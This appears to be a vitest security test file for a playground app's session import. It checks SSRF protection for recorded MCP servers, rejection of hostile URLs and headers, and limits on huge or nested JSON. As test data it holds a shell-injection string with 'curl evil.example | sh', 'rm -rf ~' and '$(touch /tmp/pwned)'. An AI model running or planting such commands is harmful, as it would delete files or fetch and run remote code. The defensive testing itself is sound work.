import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MCP_LIMITS, MCP_TAPE_LIMITS } from '@/lib/contract';
import { defineModule, ECHO_TOOL, scriptedModel } from '../../harness/attack-modules';
import { fetchStoredSession } from '../../harness/costly-sessions';
import { sampleLatency } from '../../harness/sample-latency';
import { startMcpTestServer, type McpTestServer } from '../support/mcp/start-mcp-test-server';
import { SAMPLE_MCP_TOOLS } from '../support/mcp/mcp-test-tool';
import { closeFetchAgents, fetchFrom } from './support/fetch-from';
import { expectResponsive, expectServerStillServes } from './support/server-checks';
import { shareTurn } from './support/share-turn';
import { useAbuseServer } from './support/use-abuse-server';

/**
 * Imported session records built to hurt through their MCP side (the app runs WITHOUT
 * PLAYGROUND_ALLOW_PRIVATE_NETWORK): a recorded server on this machine's loopback that a view, a
 * replay or a fork must never contact; URLs and headers full of control characters and shell
 * metacharacters (what Copy as curl would hand a reader); huge, deeply nested and countless
 * recorded JSON-RPC messages and calls. Each record past a bound gets a 4xx saying which, and the
 * HTTP thread keeps answering within a second.
 */
const { baseURL } = useAbuseServer();
let trap: McpTestServer;

beforeAll(async () => {
  trap = await startMcpTestServer({ era: 'modern', tools: SAMPLE_MCP_TOOLS });
});
afterAll(async () => {
  await Promise.all([trap?.close(), closeFetchAgents()]);
});

const json = { 'content-type': 'application/json' };
const SHELL = `$(touch /tmp/pwned) \`id\` '; rm -rf ~; ' "\n\rcurl evil.example | sh\n\u001b[2K\u202e`;

function post(from: string, path: string, body: string) {
  return fetchFrom(from, `${baseURL()}${path}`, { method: 'POST', headers: json, body, timeoutMs: 90_000 });
}

/** A shared session of one plain turn, as `GET /api/sessions/<id>` sends it, to build hostile records from. */
async function plainRecord(): Promise<Record<string, unknown>> {
  const id = await shareTurn(baseURL(), { source: defineModule([ECHO_TOOL]), message: 'Echo.', model: scriptedModel([[['echo', '{"text":"a"}']]]), title: 'plain' });
  return fetchStoredSession(baseURL(), id);
}

/** `record` whose turn names the MCP server `files` at `url` and carries `mcp` (a recorded MCP side) when given. */
function withMcp(record: Record<string, unknown>, options: { url: string; headers?: Record<string, string>; mcp?: unknown; serverPatch?: Record<string, unknown> }): Record<string, unknown> {
  const [turn, ...rest] = record.turns as Record<string, unknown>[];
  const request = { ...(turn!.request as Record<string, unknown>), mcpServers: [{ name: 'files', url: options.url }] };
  return { ...record, turns: [{ ...turn, request, ...(options.mcp === undefined ? {} : { mcp: options.mcp }) }, ...rest] };
}

/** A recorded MCP side whose server is `url`: its listing, one call, and the messages given. */
function mcpSide(url: string, options: { headers?: Record<string, string>; messages?: unknown[]; calls?: unknown[] } = {}) {
  return {
    servers: [
      {
        name: 'files',
        info: { name: 'files', version: '1', protocolVersion: '2026-07-28', transport: 'streamable-http' },
        url,
        ...(options.headers ? { headers: options.headers } : {}),
        tools: [{ name: 'get_weather', description: 'Weather.', inputSchema: { type: 'object', properties: { city: { type: 'string' } } } }],
      },
    ],
    calls: options.calls ?? [{ server: 'files', tool: 'get_weather', arguments: { city: 'Oslo' }, result: { content: [{ type: 'text', text: 'sunny' }] } }],
    messages: options.messages ?? [{ server: 'files', direction: 'sent', message: { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'get_weather', arguments: { city: 'Oslo' } } } }],
  };
}

/** A JSON text nesting `depth` objects, spliced into a record's text where `NESTED` stands (JSON.stringify would overflow the stack). */
const NESTED = '__nested__';
function withNested(recordText: string, depth: number): string {
  return recordText.replace(JSON.stringify(NESTED), '{"a":'.repeat(depth) + '0' + '}'.repeat(depth));
}

describe("a session's MCP side built to hurt", () => {
  it('never contacts a recorded server on loopback: viewing, exporting, replaying and forking answer from the record alone', async () => {
    const plain = await plainRecord();
    const hostile = withMcp(plain, { url: trap.url, mcp: mcpSide(trap.url, { headers: { Authorization: 'Bearer <redacted>' } }) });
    const imported = await post('127.0.0.5', '/api/sessions/import', JSON.stringify(hostile));
    expect(imported.status, imported.text).toBe(201);
    const id = (JSON.parse(imported.text) as { id: string }).id;
    // The same server named by the request, with no recorded MCP side at all: still never contacted.
    const bare = await post('127.0.0.5', '/api/sessions/import', JSON.stringify(withMcp(plain, { url: trap.url })));
    expect(bare.status, bare.text).toBe(201);
    const bareId = (JSON.parse(bare.text) as { id: string }).id;

    const visits = (async () => {
      const page = await fetchFrom('127.0.0.6', `${baseURL()}/s/${id}`);
      const record = await fetchFrom('127.0.0.6', `${baseURL()}/api/sessions/${id}`);
      const replay = await post('127.0.0.6', `/api/sessions/${id}/replay`, '{}');
      const bareReplay = await post('127.0.0.6', `/api/sessions/${bareId}/replay`, '{}');
      const fork = await post('127.0.0.6', `/api/sessions/${id}/fork`, JSON.stringify({ turn: 0, maxIterations: 3 }));
      return { page, record, replay, bareReplay, fork };
    })();
    const [latency, { page, record, replay, bareReplay, fork }] = await Promise.all([sampleLatency(baseURL(), visits), visits]);
    expect(page.status).toBe(200);
    expect(record.status).toBe(200);
    expect(replay.status, replay.text.slice(0, 300)).toBe(200);
    expect(bareReplay.status, bareReplay.text.slice(0, 300)).toBe(200);
    expect(bareReplay.text).toContain('the recording has no listing of this server');
    expect(bareReplay.text).toContain('mcp-server-unavailable');
    expect(fork.status, fork.text.slice(0, 300)).toBe(200);
    expect(fork.text).toContain('turn-end');
    expect(trap.methods, 'JSON-RPC methods the recorded server received').toEqual([]);
    expect([...trap.headersSeen.keys()], 'requests the recorded server received').toEqual([]);
    expectResponsive(latency, 'viewing, replaying and forking a record whose server is on loopback');
  });

  it('refuses control characters and shell metacharacters in a recorded server URL or header, with the reason', async () => {
    const plain = await plainRecord();
    const records = [
      withMcp(plain, { url: 'https://mcp.example/ok', mcp: mcpSide(`https://mcp.example/a?q=${SHELL}`) }),
      withMcp(plain, { url: `https://mcp.example/a\n; touch /tmp/pwned`, mcp: mcpSide('https://mcp.example/ok') }),
      withMcp(plain, { url: 'https://mcp.example/ok', mcp: mcpSide('https://mcp.example/ok', { headers: { 'X-Evil': `v${SHELL}` } }) }),
      withMcp(plain, { url: 'https://mcp.example/ok', mcp: mcpSide('https://mcp.example/ok', { headers: { "X-Evil'; touch /tmp/pwned; '": 'v' } }) }),
      withMcp(plain, { url: 'https://mcp.example/ok', mcp: mcpSide('https://mcp.example/ok', { headers: Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`X-H${index}`, 'v'])) }) }),
    ];
    const attack = Promise.all(records.map((record) => post('127.0.0.7', '/api/sessions/import', JSON.stringify(record))));
    const [latency, answers] = await Promise.all([sampleLatency(baseURL(), attack), attack]);
    const summary = answers.map((answer) => `${answer.status} ${answer.text.slice(0, 300)}`);
    expect(answers.map((answer) => answer.status), summary.join('\n')).toEqual([400, 400, 400, 400, 400]);
    expect(summary[0]).toContain('a server URL may not hold spaces, line breaks or control characters.');
    expect(summary[1]).toContain('a server URL may not hold spaces, line breaks or control characters.');
    expect(summary[2]).toContain('a header value may not hold line breaks or control characters.');
    // Refused by the record's key check before the header rule: either way, with where it is.
    expect(summary[3]).toMatch(/headers\.X-Evil.*Invalid key in record|a header name may hold only the characters HTTP allows in a token\./);
    expect(summary[4]).toContain(`at most ${MCP_LIMITS.headersPerServer} headers per server.`);
    expectResponsive(latency, 'hostile URLs and headers');
  });

  it('refuses huge, deeply nested and countless recorded messages and calls with a bounded 4xx, and keeps serving', async () => {
    const plain = await plainRecord();
    const url = 'https://mcp.example/mcp';
    const message = (body: unknown) => ({ server: 'files', direction: 'received', message: body });
    const call = { server: 'files', tool: 'get_weather', arguments: {}, result: { content: [] } };
    const records = [
      withMcp(plain, { url, mcp: mcpSide(url, { messages: [message({ jsonrpc: '2.0', id: 1, result: { text: 'x'.repeat(3_000_000) } })] }) }),
      withMcp(plain, { url, mcp: mcpSide(url, { messages: [message(NESTED)] }) }),
      withMcp(plain, { url, mcp: mcpSide(url, { messages: Array.from({ length: 5_000 }, (_, index) => message({ jsonrpc: '2.0', id: index, result: {} })) }) }),
      withMcp(plain, { url, mcp: mcpSide(url, { calls: Array.from({ length: 5_000 }, () => call) }) }),
      withMcp(plain, { url, mcp: mcpSide(url, { messages: Array.from({ length: 300 }, (_, index) => message({ jsonrpc: '2.0', id: index, result: new Array(2_000).fill(0) })) }) }),
    ];
    const attack = (async () => {
      const answers: { status: number; text: string }[] = [];
      for (const record of records) answers.push(await post('127.0.0.8', '/api/sessions/import', withNested(JSON.stringify(record), 100_000)));
      return answers;
    })();
    const [latency, answers] = await Promise.all([sampleLatency(baseURL(), attack), attack]);
    const summary = answers.map((answer) => `${answer.status} ${answer.text.slice(0, 300)}`);
    for (const answer of answers) expect([400, 413], summary.join('\n')).toContain(answer.status);
    expect(summary[0]).toContain(`a recorded MCP message is kept up to ${MCP_TAPE_LIMITS.messageChars} characters`);
    expect(summary[1]).toMatch(/The body nests deeper than \d+ levels/);
    expect(summary[2]).toContain(`a turn keeps at most ${MCP_TAPE_LIMITS.messages} MCP messages.`);
    expect(summary[3]).toContain(`a turn makes at most ${MCP_LIMITS.callsPerTurn} MCP server calls.`);
    expect(summary[4]).toMatch(/The body holds more than \d+ JSON values/);
    expectResponsive(latency, 'huge, nested and countless MCP messages');
    await expectServerStillServes(baseURL());
  });
});
